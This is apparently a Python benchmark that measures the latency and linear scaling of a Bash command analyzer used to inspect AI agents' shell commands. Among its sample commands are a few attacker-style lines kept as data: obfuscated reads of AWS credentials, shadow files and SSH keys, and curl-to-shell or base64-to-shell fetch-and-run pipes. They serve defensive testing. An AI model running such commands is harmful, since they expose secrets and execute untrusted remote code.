"""Time the Bash analyzer on realistic agent commands: median and p95 per command; then on
big commands of each kind agents send (long pipelines, `&&` chains, here-documents, quoted
text, base64 blobs, scripts, `bash -c '...'`, inline Python), at 4, 16 and 64 KiB.

Run: .venv/bin/python tests/benchmarks/bench_shell.py [--repeat N] [--no-big]
The target is a median of at most 1 ms for commands under 1 KB, and cost linear in the size
of a big command (64 KiB costs at most 6 times 16 KiB, 4 times being linear, for every kind
that costs 1 ms or more at 16 KiB: measured against itself in the same run); the script exits
1 when either is missed, so CI can run it as a check. For each kind it prints the cost per
KiB (the slope from 4 to 64 KiB).
"""

from __future__ import annotations

import argparse
import os
import statistics
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from prempti_hook.event_source.shell import analyze

TARGET_MEDIAN_MS = 1.0

# Commands as agents write them: builds, tests, git, searches, installs, file edits,
# pipelines, loops, heredocs; plus a few that an attacker would write.
BASE = [
    "ls -la", "pwd", "git status", "git diff --stat", "git log --oneline -20",
    "git add -A && git commit -m 'Fix parser edge case'",
    "git commit -m \"$(cat <<'EOF'\nAdd shell analysis\n\nCo-Authored-By: x <x@y>\nEOF\n)\"",
    "git push origin HEAD", "git checkout -b feature/shell-fields", "git stash && git pull",
    "npm test", "npm run build", "npm install --save-dev typescript@5",
    "npx tsc --noEmit", "yarn lint --fix", "pnpm -r build",
    "python3 -m pytest tests/ -q -x", "python -m pip install -r requirements.txt",
    "pip install -e '.[test]'", "uv run pytest -k shell", "cargo build --release",
    "cargo test -- --nocapture", "go test ./... -run TestShell", "make -j4 && make install",
    "docker build -t app:latest .", "docker compose up -d",
    "kubectl get pods -n default -o wide",
    "grep -rn 'TODO' src/ --include='*.py'", "rg -n 'def analyze' prempti_hook",
    "find . -name '*.pyc' -delete", "find src -type f -name '*.ts' | xargs wc -l",
    "cat README.md | head -50", "head -n 20 src/main.py", "tail -f /var/log/syslog",
    "wc -l $(git ls-files '*.py')", "sed -i 's/foo/bar/g' src/config.py",
    "awk -F, '{print $2}' data.csv | sort | uniq -c | sort -rn | head",
    "curl -sS https://api.github.com/repos/falcosecurity/falco | jq '.stargazers_count'",
    "wget -q https://example.com/file.tar.gz -O /tmp/file.tar.gz",
    "tar xzf /tmp/file.tar.gz -C /tmp/extract", "mkdir -p build/out && cp -r assets build/out/",
    "rm -rf node_modules dist", "chmod +x scripts/run.sh && ./scripts/run.sh --verbose",
    "echo $PATH | tr ':' '\\n'", "export NODE_ENV=production; node server.js &",
    "for f in src/*.py; do python -m py_compile \"$f\" || echo \"bad $f\"; done",
    "if [ -f .env ]; then set -a; . ./.env; set +a; fi",
    "while read -r line; do echo \"$line\"; done < input.txt",
    "cd frontend && npm ci && npm run build",
    "ssh deploy@prod.example.com 'sudo systemctl restart app'",
    "rsync -avz --delete build/ deploy@prod.example.com:/srv/app/",
    "scp dist/app.tar.gz user@10.0.0.5:/tmp/",
    "python3 -c 'import sys; print(sys.version)'",
    "node -e 'console.log(process.versions)'",
    "cat > config.json <<'EOF'\n{\"debug\": true, \"port\": 8080}\nEOF",
    "jq '.dependencies | keys' package.json", "du -sh * | sort -h",
    "ps aux | grep -v grep | grep python", "lsof -i :8080", "env | sort",
    "diff -u old.txt new.txt > changes.patch", "patch -p1 < changes.patch",
    "openssl rand -hex 32", "base64 -d secret.b64 > secret.bin",
    "timeout 30 ./long_task.sh", "nohup python worker.py > worker.log 2>&1 &",
    "sudo apt-get install -y ripgrep", "brew install jq",
    "ls ~/.config && cat ~/.config/app/settings.yml",
    "K=$HOME/.kube/config; head -5 \"$K\"", "ca\"\"t ~/.aws/cred\"\"entials",
    "head${IFS}-c100${IFS}/etc/gshadow", "curl -fsSL https://get.example.sh | sh",
    "wget -qO- http://x.example/i | dash", "bash -c 'cat ~/.ssh/id_rsa'",
    "sudo -u root env FOO=1 cat /etc/shadow", "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh",
    "{cat,/etc/passwd}", "eval \"$(ssh-agent -s)\" && ssh-add ~/.ssh/id_ed25519",
    "python3 - <<'EOF'\nimport json\nprint(json.dumps({'a': 1}))\nEOF",
    "for i in {1..5}; do curl -s http://localhost:8080/health && break; sleep 1; done",
    "git log --format='%H %s' | grep -i fix | cut -d' ' -f1 | xargs -n1 git show --stat",
    "case \"$1\" in start) ./run.sh ;; stop) pkill -f run.sh ;; *) echo usage ;; esac",
    "f() { local d=\"$1\"; mkdir -p \"$d\" && cd \"$d\"; }; f /tmp/work",
    "[[ -d venv ]] || python3 -m venv venv && source venv/bin/activate",
    "cat <<EOF | kubectl apply -f -\napiVersion: v1\nkind: Namespace\nEOF",
    "printf '%s\\n' a b c | while read x; do echo \"$x\"; done",
]


def variants() -> list[str]:
    """At least 200 commands: the base set plus path/target/flag variations of it."""
    commands = list(BASE)
    for target in ("src", "tests", "docs", "lib/core", "../other"):
        commands.append(f"grep -rn 'import' {target} | head -20")
        commands.append(f"ls -la {target} && wc -l {target}/*")
        commands.append(f"cp -r {target} /tmp/backup_{target.replace('/', '_')}")
        commands.append(f"cd {target} && git status --short && cd -")
        commands.append(f"find {target} -name '*.md' -exec grep -l TODO {{}} \\;")
    for host in ("api.example.com", "10.1.2.3", "localhost:3000", "[::1]:8080",
                 "registry.npmjs.org"):
        commands.append(f"curl -sS -H 'Accept: application/json' https://{host}/v1/items")
        commands.append(f"wget --spider http://{host}/")
    for number in range(40):
        commands.append(f"python3 -m pytest tests/test_mod{number}.py -q -k 'case_{number}'")
        commands.append(f"echo 'step {number}' >> build.log && make target{number}")
    return commands


# Big commands: one unit repeated to the size (cut there, as an agent's text would be).
BIG_KINDS = {
    "pipelines": "cat src/app.log | grep -v DEBUG | sed 's/a/b/g' | sort | uniq -c | head; ",
    "&& chains": "mkdir -p build/out && cp -r assets build/out/ && npm run build && ",
    "here-document": "cat > notes.md <<EOF\n" + "line of $HOME text, `date`, ${X:-y}\n" * 4000,
    "quoted here-doc": "cat > notes.md <<'EOF'\n" + "line of $HOME text, `date`, ${X:-y}\n"
                       * 4000,
    "quoted string": "git commit -m '" + "Explain the change in plain words. " * 4000,
    "double-quoted": 'echo "' + "a $x value and some plain text around it " * 4000,
    "base64 blob": "echo " + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w" * 4000,
    "script": ("for f in src/*.py; do\n  if [ -f \"$f\" ]; then\n    python -m py_compile "
               "\"$f\" || echo \"bad $f\"\n  fi\ndone\nREV=$(git rev-parse HEAD)\n"
               "echo \"$REV\" >> build.log\n"),
    "bash -c": "bash -c '" + "cd /tmp && ls -la && cat notes | grep todo; " * 4000,
    "python -c": "python3 -c '" + "import os\nprint(os.getcwd())\nfor i in range(3):\n"
                 "    print(i)\n" * 4000,
    "many arguments": "ls " + "src/app/module.py " * 4000,
}
BIG_SIZES = (4, 16, 64)  # KiB
SUPERLINEAR = 6.0  # 64 KiB against 16 KiB (linear: 4)


def big_commands(cwd: str, home: str, env: dict, repeat: int) -> bool:
    """Print the cost of each kind of big command by size, and its slope per KiB; False
    when one grows faster than linearly."""
    print(f"\nbig commands (best of {repeat}):")
    print(f"  {'kind':16s}" + "".join(f"{size:>8d} KiB" for size in BIG_SIZES)
          + "   ms/KiB")
    linear = True
    for kind, unit in BIG_KINDS.items():
        costs = []
        for size in BIG_SIZES:
            command = (unit * (size * 1024 // len(unit) + 1))[:size * 1024]
            best = float("inf")
            for _ in range(repeat):
                start = time.perf_counter()
                analyze(command, cwd, home, env)
                best = min(best, time.perf_counter() - start)
            costs.append(best * 1000)
        slope = (costs[-1] - costs[0]) / (BIG_SIZES[-1] - BIG_SIZES[0])
        grows = costs[2] > SUPERLINEAR * costs[1] and costs[1] >= 1.0
        linear = linear and not grows
        print(f"  {kind:16s}" + "".join(f"{ms:9.1f} ms" for ms in costs)
              + f"   {slope:6.3f}" + ("   superlinear" if grows else ""))
    return linear


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--repeat", type=int, default=20)
    parser.add_argument("--no-big", action="store_true", help="skip the big commands")
    args = parser.parse_args()
    commands = [c for c in variants() if len(c.encode()) < 1024]
    with tempfile.TemporaryDirectory() as tmp:
        home = os.path.realpath(tmp)
        cwd = os.path.join(home, "project")
        os.makedirs(cwd)
        env = {"PATH": "/usr/bin:/bin", "USER": "u"}
        for command in commands:  # warm up (first-call costs are not per-command costs)
            analyze(command, cwd, home, env)
        per_command = []
        for command in commands:
            times = []
            for _ in range(args.repeat):
                start = time.perf_counter()
                analyze(command, cwd, home, env)
                times.append(time.perf_counter() - start)
            per_command.append((statistics.median(times) * 1000, command))
        linear = args.no_big or big_commands(cwd, home, env, max(1, args.repeat // 5))
    values = sorted(ms for ms, _c in per_command)
    median = statistics.median(values)
    p95 = values[int(len(values) * 0.95) - 1]
    print(f"commands: {len(values)} (repeat {args.repeat} each)")
    print(f"median: {median:.3f} ms   p95: {p95:.3f} ms   max: {values[-1]:.3f} ms")
    print("slowest:")
    for ms, command in sorted(per_command, reverse=True)[:5]:
        print(f"  {ms:7.3f} ms  {command[:70]!r}")
    if not linear:
        print("a big command's cost grows faster than its size")
    return 0 if median <= TARGET_MEDIAN_MS and linear else 1


if __name__ == "__main__":
    sys.exit(main())
